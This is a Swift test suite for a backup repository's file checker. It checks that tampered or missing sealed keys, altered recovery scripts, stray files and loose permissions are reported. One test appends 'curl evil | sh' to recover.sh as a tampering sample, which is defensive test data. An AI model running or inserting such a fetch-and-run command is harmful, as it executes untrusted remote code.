import DurableFiles
import Glibc
import Repository
import Secrets
import TestSupport
import Testing

@Suite struct RepositoryFilesCheckTests {
    let sample: SampleRepository
    let manifest: Manifest

    init() throws {
        let sample = try SampleRepository()
        let recovery = try RecoveryFiles.write(layout: sample.layout, files: sample.files)
        manifest = try sample.backup(
            [noise(1)], escrow: [Escrow.File(path: "/.env", mode: 0o600, content: .testing("K=V"))]
        ) { $0.recovery = recovery }
        self.sample = sample
    }

    @Test func `an undamaged repository has neither damage nor notes`() throws {
        #expect(try sample.findings(sample.readable()).map(\.message) == [])
    }

    @Test(arguments: ["identity-1.age", "id-key-1.age", "signing-key-1.age"])
    func `every sealed key is compared with the keyring, to the last bit`(name: String) throws {
        let path = "keys/" + name, whole = try sample.read(path)
        for change in 0..<4 {
            switch change {
            case 0: try sample.edit(path) { $0[120] = $0[120] == 65 ? 66 : 65 }
            case 1: try sample.write(Array(whole.dropLast(10)), to: path)
            case 2: try sample.write("", to: path)
            default: try sample.write(String(repeating: "x", count: 2 << 20), to: path)
            }
            #expect(try sample.damage() == ["repository.malformed \(path)"])
        }
        try sample.remove(path)
        #expect(try sample.damage() == ["repository.missing-file \(path)"])
    }

    @Test func `one sealed key in place of another is found`() throws {
        try sample.write(try sample.read("keys/id-key-1.age"), to: "keys/signing-key-1.age")
        #expect(try sample.damage() == ["repository.malformed keys/signing-key-1.age"])
    }

    @Test(arguments: ["recover.sh", "RECOVER.md"])
    func `a recovery file that was edited or lost is damage, for it runs with the operator's keys`(name: String) throws
    {
        try sample.edit(name) { $0 += Array("\ncurl evil | sh\n".utf8) }
        #expect(try sample.damage() == ["repository.malformed \(name)"])
        try sample.write([UInt8](repeating: 32, count: 2 << 20), to: name)
        #expect(try sample.damage() == ["repository.malformed \(name)"])
        try sample.remove(name)
        #expect(try sample.damage() == ["repository.missing-file \(name)"])
        mkfifo(sample.path(name), 0o600)
        #expect(try sample.damage() == ["repository.malformed \(name)"])
    }

    @Test func `a recovery file of this release is in order beside manifests of another one`() throws {
        try sample.backup([noise(2)]) { $0.recovery = ["recover.sh": String(repeating: "0", count: 64)] }
        #expect(try sample.damage().isEmpty)
        try sample.edit("recover.sh") { $0.append(10) }
        #expect(try sample.damage() == ["repository.malformed recover.sh"])
    }

    @Test func `chunks and escrow files that no manifest names are notes`() throws {
        let other = try sample.backup(
            [noise(2)], escrow: [Escrow.File(path: "/.env", mode: 0o600, content: .testing("K=V"))])
        for suffix in ["", ".sig"] { try sample.remove("backups/\(other.id.text).json" + suffix) }
        try sample.repository.host.remember(
            HostState.Memory(signer: sample.signer, sequence: 1, keyringRevision: 1))
        let name = try #require(other.chunks.keys.first)
        #expect(
            try sample.notes() == [
                "repository.unnamed-chunk \(sample.chunk(name))",
                "repository.unnamed-escrow escrow/\(other.id.text).age",
            ])
        #expect(try sample.damage().isEmpty)
    }

    @Test func `what does not belong there is a note, wherever it lies`() throws {
        let strangers = [
            "chunks/README", "chunks/00/README", "chunks/abc", "escrow/README", "keys/README", "proofs/README",
            "removals/README",
        ]
        for path in strangers { try sample.write("x", to: path) }
        symlink("nowhere", sample.path("chunks/xy"))
        // A chunk in another chunk's folder is not found by anybody who looks for it.
        let name = try #require(manifest.chunks.keys.first)
        let astray = "chunks/\(name.hex.hasPrefix("00") ? "01" : "00")/\(name.hex).zst.age"
        try sample.write("x", to: astray)
        // The root may be the root of a disk.
        try sample.files.createFolder(sample.path("lost+found"))
        let expected = (strangers + ["chunks/xy", astray]).map { "repository.unknown-file \($0)" }
        #expect(try sample.notes().sorted() == expected.sorted())
        #expect(try sample.damage().isEmpty)
    }

    @Test func `what a killed run left is a note, wherever it lies`() throws {
        let name = Files.temporaryPrefix + "0123456789abcdef"
        let folders = ["", "backups/", "chunks/", "chunks/00/", "escrow/", "keys/", "proofs/", "removals/", "tmp/"]
        for folder in folders { try sample.write("x", to: folder + name) }
        let expected = folders.map { "repository.temporary-file \($0)\(name)" }
        #expect(try sample.notes().sorted() == expected.sorted())
    }

    @Test func `files and folders that others may read are notes`() throws {
        let chunk = sample.chunk(try #require(manifest.chunks.keys.first))
        let manifest = "backups/\(manifest.id.text).json"
        try ProofStore.record(
            Proof(
                backup: self.manifest.id, manifest: "", level: .stored, outcome: .proven, time: "2026", program: "",
                host: ""), signer: sample.writing.signer, repository: sample.repository)
        let proofs = try sample.files.list(sample.layout.proofs(self.manifest.id)).map {
            "proofs/\(self.manifest.id.text)/\($0.name)"
        }
        let open = [chunk, manifest, "keys", "recover.sh", "chunks/ff", "proofs/\(self.manifest.id.text)"] + proofs
        for path in open { try shell("chmod go+r \"$0\"", sample.path(path)) }
        #expect(try Set(sample.notes()) == Set(open.map { "repository.wrong-mode \($0)" }))
        #expect(try sample.damage().isEmpty)
    }
}
